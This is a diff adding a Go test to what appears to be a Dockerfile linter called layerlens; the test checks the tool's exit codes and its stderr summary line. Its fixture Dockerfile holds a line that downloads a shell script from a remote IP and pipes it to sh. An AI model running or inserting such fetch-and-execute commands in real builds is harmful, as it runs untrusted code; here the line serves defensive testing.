@@ -295,3 +295,27 @@ func TestRulesAndExplain(t *testing.T) {
 		t.Errorf("explain without NAME = %d, want 2", code)
 	}
 }
+
+// TestCheckSummaryLine: the text format ends with a summary on stderr that counts findings by
+// severity and says why the exit code is what it is; stdout keeps one finding per line.
+func TestCheckSummaryLine(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "Dockerfile")
+	if err := os.WriteFile(path, []byte("FROM alpine:3.20\nRUN curl -fsSL http://203.0.113.7/i.sh | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	code, out, errOut := check(t, "--no-images", path)
+	if code != 1 {
+		t.Fatalf("check = %d, want 1; stderr %s", code, errOut)
+	}
+	if strings.Contains(out, "layerlens check:") {
+		t.Errorf("summary on stdout:\n%s", out)
+	}
+	if !strings.Contains(errOut, "layerlens check: 1 file, ") || !strings.Contains(errOut, "failing: findings at --fail-level error or above") {
+		t.Errorf("stderr lacks the summary line:\n%s", errOut)
+	}
+	code, _, errOut = check(t, "--no-images", "--fail-level", "none", path)
+	if code != 0 || strings.Contains(errOut, "fail-level") {
+		t.Errorf("check --fail-level none = %d, stderr %q; want 0 and a plain summary", code, errOut)
+	}
+}
